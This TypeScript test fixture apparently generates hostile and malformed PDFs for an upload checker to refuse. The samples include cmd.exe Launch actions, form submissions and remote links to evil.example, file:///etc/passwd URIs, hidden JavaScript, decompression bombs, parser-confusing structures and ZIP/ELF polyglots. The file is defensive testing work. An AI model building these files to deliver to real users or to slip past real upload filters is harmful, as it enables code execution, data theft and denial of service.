import { deflateSync } from 'node:zlib'
import type { FileFault } from '#server/platform/uploads/file-checks/refused.ts'
import { bad, type BadFile, firstHalf, linesOf } from './bad-file.ts'
import { buildPackedPdf, buildPdf, packed, packedPages, pointInto, revise, script, stream } from './pdf.ts'
import { buildDocx, buildZip } from './zip.ts'

function pdf(fault: FileFault, name: string, bytes: () => Buffer): BadFile {
  return bad('pdf', fault, name, bytes)
}

/** The objects of a line, the first with number 5; one that begins with `stream` is a stream with that dictionary. */
function objectsIn(line: string): (string | Buffer)[] {
  return line
    .split(' ; ')
    .map((object) => (object.startsWith('stream') ? stream(object.slice(6), Buffer.from('x')) : object))
}

/** Objects that run something, hide something or lead out of the document. */
const objects = linesOf(String.raw`
  ${script}
  << /S /J#61va#53cript /#4aS (x) >>
  << /#4a#53 (x) >>
  << /S 6 0 R /X (app.alert\(1\)) >> ; /JavaScript
  [[[${script}]]]
  << /S /URI /URI (https://example.in) /Next ${script} >>
  stream /Extra ${script}
  << /S /Launch /F (cmd.exe) >>
  << /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>
  << /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >>
  << /S /SubmitForm /F (http://evil.example) >>
  << /S /ImportData /F (a.fdf) >>
  << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /RunMe >> >>
  << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /D (cmd.exe) >> >>
  << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >> >>
  stream /Type /EmbeddedFile
  << /F (a.exe) /EF << /F 4 0 R >> >>
  stream /Subtype /application#2Foctet-stream
  << /Type /Filespec /F (http://evil.example/a) /FS /URL >>
  << /UF (a.exe) >>
  stream /FFilter /FlateDecode
  stream /Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>
  stream /Subtype /Image /OPI << /2.0 << /F (a.tif) >> >>
  stream /Type /XObject /Subtype /PS
  stream /Type /XObject /Subtype /Form /PS 4 0 R
  stream /Type /3D /Subtype /U3D
  << /Type /Gadget >>
  << /Type /Page /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>
  << /Type /Page /Gadget 4 0 R >>
  << /S /URI /URI (javascript:app.alert(1)) >>
  << /S /URI /URI (file:///C:/Windows/a.exe) >>
  << /S /URI /URI (\\\\evil.example\\a) >>
  << /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>
  << /S /URI /URI (data:text/html,<b>) >>
  << /S /URI /URI 6 0 R >> ; (file:///etc/passwd)
  << /S /URI /URI 6 0 R >> ; 7 0 R ; (file:///etc/passwd)
  << /Rect [0 0 9 9] /A 6 0 R >> ; 7 0 R ; << /S 8 0 R /F 10 0 R >> ; 9 0 R ; /Launch ; 11 0 R ; (cmd.exe)
  << /J#2353 (x) >>
`)

/** Kinds of actions and of notes that may stand nowhere. */
const actions =
  'GoToE GoToDp Thread ResetForm Rendition Movie Sound Hide Named SetOCGState GoTo3DView RichMediaExecute'
const notes = 'FileAttachment Movie Sound Screen 3D RichMedia Gadget'

/** The same of what a catalog leads to: entries, and the objects from number 5 on. */
const catalogs = linesOf(`
  /OpenAction ${script}
  /Names << /JavaScript << /Names [(a) 5 0 R] >> >> ; ${script}
  /OpenAction << /S /URI /URI (https://evil.example) >>
  /OpenAction 5 0 R ; << /S /URI /URI (https://evil.example) >>
  /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> ; << /S /URI /URI (https://evil.example) >>
  /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >> ; << /S /URI /URI (https://evil.example) >>
  /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>
  /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>
  /AcroForm << /XFA 5 0 R >> ; stream
  /AcroForm << /Fields [] /Gadget [] >>
  /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>
  /Names << /Gadgets 4 0 R >>
  /Names << /Renditions 4 0 R >>
  /AF [4 0 R]
  /Collection << /View /D >>
  /NeedsRendering true
  /URI << /Base (file:///C:/) >>
  /Gadget 4 0 R
`)

const running: BadFile[] = [
  ...objects.map((line) => bad('pdf', 'active', line, () => buildPdf({ more: objectsIn(line) }))),
  ...actions.split(' ').map((kind) => {
    return bad('pdf', 'active', `the action ${kind}`, () =>
      buildPdf({ more: [`<< /S /${kind} /T 4 0 R >>`] }),
    )
  }),
  ...notes.split(' ').map((kind) => {
    const note = `<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] >>`
    return bad('pdf', 'active', `the note ${kind}`, () => buildPdf({ more: [note] }))
  }),
  ...catalogs.map((line) => {
    const [catalog = '', ...more] = objectsIn(line)
    return bad('pdf', 'active', line, () => buildPdf({ catalog: String(catalog), more }))
  }),
]

function replaced(pdf: Buffer, ...words: [string | RegExp, string]): Buffer {
  return Buffer.from(pdf.toString('latin1').replace(...words), 'latin1')
}

function unfoldsTo(bytes: number, dictionary: string): Buffer {
  return stream(`${dictionary} /Filter /FlateDecode`, deflateSync(Buffer.alloc(bytes)))
}

const hiddenScript = script.replaceAll(/[()\\]/g, '')
const page = '<< /Type /Page >>'

/** PDFs in which what runs stands where only some readers look, or that two readers read in two ways. */
const made: BadFile[] = [
  pdf('active', 'JavaScript in lines ended by CR', () =>
    buildPdf({ newline: '\r', more: [`% comment\r${script}`] }),
  ),
  ...[
    '<</S\0/JavaScript\f/JS<6170>>>',
    '<< /S % of what kind\n/JavaScript >>',
    '<< /S /URI /URI (java\\\nscript:alert(1)) >>',
    '<< /Length 0 /F (http://evil.example/a) >>\nstream\n\nendstream',
  ].map((written) => pdf('active', JSON.stringify(written), () => buildPdf({ more: [written] }))),
  pdf('active', 'JavaScript behind a string that says stream', () =>
    buildPdf({ more: ['(\nstream\n)', script, stream('', Buffer.from('x'))] }),
  ),
  pdf('active', 'JavaScript in a stream of objects', () => buildPackedPdf([...packedPages, script])),
  pdf('active', 'JavaScript in a stream of objects whose kind is spelt with #xx', () =>
    buildPackedPdf([...packedPages, script], { type: '/Type /Obj#53tm' }),
  ),
  pdf('damaged', 'JavaScript in a stream of objects of no kind', () =>
    buildPackedPdf([...packedPages, script], { type: '' }),
  ),
  pdf('active', 'JavaScript in an unpacked stream of objects', () =>
    buildPackedPdf([...packedPages, script], { plain: true }),
  ),
  pdf('damaged', 'JavaScript in a stream of objects, within what looks like a string', () =>
    buildPackedPdf([...packedPages, '(', script, ')']),
  ),
  pdf('active', 'JavaScript in a stream of objects that no table names', () =>
    buildPdf({ more: [packed([script])] }),
  ),
  pdf('active', 'JavaScript added behind the end', () =>
    revise(buildPdf(), { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }),
  ),
  pdf('active', 'JavaScript in an older version', () =>
    revise(buildPdf({ catalog: `/OpenAction ${script}` }), { 1: '<< /Type /Catalog /Pages 2 0 R >>' }),
  ),
  pdf('active', 'JavaScript in the version between', () =>
    revise(revise(buildPdf(), { 9: script }), { 9: 'null' }),
  ),
  pdf('active', 'JavaScript in an object that no table names', () =>
    replaced(buildPdf({ more: ['null'] }), '5 0 obj\nnull', `5 0 obj\n${script}`),
  ),
  pdf('damaged', 'JavaScript in a string that a table points into', () =>
    pointInto(buildPdf({ more: [`(9 0 obj ${script} endobj)`] }), 1, `9 0 obj ${script}`),
  ),
  pdf('damaged', 'JavaScript in a comment that a table points into', () =>
    pointInto(buildPdf({ more: [`null %9 0 obj ${script} endobj\n`] }), 1, `9 0 obj ${script}`),
  ),
  pdf('damaged', 'JavaScript in a picture that a table points into', () =>
    pointInto(
      buildPdf({ more: [stream('/Subtype /Image', Buffer.from(`9 0 obj ${script} endobj`))] }),
      1,
      '9 0 obj',
    ),
  ),
  pdf('damaged', 'an object that a mending reader finds in a stream', () =>
    buildPdf({ content: `(9 0 obj ${hiddenScript} endobj)` }),
  ),
  pdf('damaged', 'a table that names another place', () => pointInto(buildPdf(), 3, '2 0 obj')),
  pdf('damaged', 'a start that is no table', () => replaced(buildPdf(), /startxref\n\d+/, 'startxref\n15')),
  pdf('damaged', 'a table before it that is none', () => buildPdf({ trailer: '/Prev 15' })),
  pdf('damaged', 'a second table that is none', () => buildPdf({ trailer: '/XRefStm 15' })),
  pdf('damaged', 'a stream that ends twice', () =>
    buildPdf({ content: `BT ET\nendstream endobj 8 0 obj ${hiddenScript}` }),
  ),
  pdf('damaged', 'a stream of two lengths', () =>
    revise(buildPdf({ more: ['<< /Length 6 0 R >>\nstream\nabcd\nendstream', '4'] }), { 6: '2' }),
  ),
  pdf('damaged', 'words between its objects', () =>
    replaced(buildPdf(), 'endobj\n2 0', 'endobj\nhello\n2 0'),
  ),
  ...[
    '<< /Subtype /Link /A << /S /URI /URI (https://a.in) >> /A << /S /GoTo /D (x) >> >>',
    '<< /Length 2 >>\nstream\nabcdef\nendstream',
    '<< >>\nstream\nabcdef\nendstream',
    ...['[--5]', '<4z1>', '[truefalse]', '[+-1]'],
  ].map((written) =>
    pdf('damaged', `two ways to read ${JSON.stringify(written)}`, () => buildPdf({ more: [written] })),
  ),
  pdf('locked', 'encrypted', () =>
    buildPdf({ trailer: '/Encrypt 5 0 R', more: ['<< /Filter /Standard /V 2 >>'] }),
  ),
  pdf('locked', 'encrypted, spelt with #xx', () =>
    buildPdf({ trailer: '/Encryp#74 5 0 R', more: ['<< >>'] }),
  ),
  pdf('locked', 'encrypted, in a stream of entries', () =>
    buildPackedPdf([...packedPages, '<< /V 2 >>'], { trailer: '/Encrypt 103 0 R' }),
  ),
  ...['/Crypt', '/Gadget'].map((filter) =>
    pdf('damaged', `a stream behind ${filter}`, () =>
      buildPdf({ more: [stream(`/Filter ${filter}`, Buffer.from('x'))] }),
    ),
  ),
  pdf('damaged', 'without its end mark', () => replaced(buildPdf(), '%%EOF', '')),
  pdf('damaged', 'cut in half', () => firstHalf(buildPdf({ content: 'x'.repeat(10_000) }))),
  pdf('damaged', 'only its first bytes', () => Buffer.from('%PDF-1.4\n')),
  pdf('damaged', 'first and last bytes alone', () => Buffer.from('%PDF-1.4\nstartxref\n0\n%%EOF')),
  pdf('damaged', 'without a root', () =>
    Buffer.from('%PDF-1.4\n1 0 obj\n<< >>\nendobj\nstartxref\n0\n%%EOF'),
  ),
  pdf('damaged', 'a comment behind its end', () => buildPdf({ behind: '% more\n' })),
  pdf('damaged', 'brackets 100,000 deep', () =>
    buildPdf({ more: ['['.repeat(100_000) + ']'.repeat(100_000)] }),
  ),
  pdf('damaged', 'strings 1,000,000 deep', () => buildPdf({ more: ['1 0 obj ('.repeat(100_000)] })),
  pdf('damaged', '80,000 pages', () => buildPdf({ more: Array<string>(80_000).fill(page) })),
  pdf('damaged', '60,000 pages in a stream of objects', () =>
    buildPackedPdf([...packedPages, ...Array<string>(60_000).fill(page)]),
  ),
  pdf('damaged', '100,000 pages of one object', () =>
    buildPdf({ more: [`<< /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`] }),
  ),
  pdf('damaged', 'a stream of objects that does not unfold', () =>
    buildPdf({
      more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('no zlib'))],
    }),
  ),
  pdf('damaged', 'a stream of objects behind another filter', () =>
    buildPdf({
      more: [packed(packedPages, { plain: true, more: '/Filter [/ASCIIHexDecode /FlateDecode]' })],
    }),
  ),
  pdf('damaged', 'a stream of objects behind a predictor', () =>
    buildPdf({ more: [packed(packedPages, { more: '/DecodeParms << /Predictor 12 >>' })] }),
  ),
  pdf('damaged', 'a stream of objects that promises more', () =>
    buildPdf({
      more: [
        stream('/Type /ObjStm /N 40000 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from('1 0 null'))),
      ],
    }),
  ),
  pdf('damaged', 'a stream of objects that unfolds to 100 MB', () =>
    buildPdf({ more: [unfoldsTo(100_000_000, '/Type /ObjStm /N 1 /First 4')] }),
  ),
  pdf('damaged', '40 kB that unfold to 40 MB of objects', () =>
    buildPdf({ more: [unfoldsTo(40_000_000, '/Type /ObjStm /N 1 /First 4')] }),
  ),
  pdf('damaged', '40 kB that unfold to a page of 40 MB', () =>
    buildPdf({ more: [unfoldsTo(40_000_000, '')] }),
  ),
  pdf('damaged', 'streams of objects that unfold to 200 MB together', () =>
    buildPdf({ more: Array<Buffer>(22).fill(unfoldsTo(9_000_000, '/Type /ObjStm /N 0 /First 0')) }),
  ),
  pdf('damaged', 'a picture of 900 megapixels', () =>
    buildPdf({ more: [stream('/Subtype /Image /Width 30000 /Height 30000', Buffer.from('x'))] }),
  ),
  pdf('active', 'a zip behind', () => buildPdf({ behind: buildZip([{ name: 'a.txt', content: 'a' }]) })),
  pdf('active', 'a zip whose comment is its end', withZip),
  ...['Rar!\x1a\x07\0', "7z\xbc\xaf'\x1c", 'MZ\x90\0\x03\0', '\x7fELF\x02\x01\x01', '%PDF-1.4\n'].map(
    (beginning) =>
      pdf('active', `${JSON.stringify(beginning)} within a stream`, () =>
        buildPdf({ more: [stream('', Buffer.from(`${beginning}more`, 'latin1'))] }),
      ),
  ),
  pdf('active', 'an archive of tape', tape),
  pdf('active', 'a page of HTML in a comment', () =>
    buildPdf({ more: ['null %<script>alert(1)</script>\n'] }),
  ),
  pdf('damaged', 'a page of HTML behind', () => buildPdf({ behind: '<html><script>alert(1)</script>' })),
  ...['<html><script>alert(1)</script>-->\n', '#!/bin/sh\n', '\n'].map((front) =>
    pdf('wrong kind', `${JSON.stringify(front)} in front`, () => buildPdf({ front })),
  ),
  pdf('wrong kind', 'a docx', () => buildDocx()),
]

function withZip(): Buffer {
  const zip = buildZip([{ name: 'a.class', content: 'a' }]).subarray(0, -22)
  const tail = Buffer.from('\n%%EOF\n')
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(tail.length, 20)
  return Buffer.concat([buildPdf({ more: [stream('', zip)] }), end, tail])
}

function tape(): Buffer {
  const bytes = buildPdf({ catalog: `/Lang (${'x'.repeat(400)})` })
  bytes.write('ustar', 257)
  return bytes
}

/** PDFs that run something, lead out of themselves, or are not the same for every reader. */
export const badPdfs: BadFile[] = [...running, ...made]
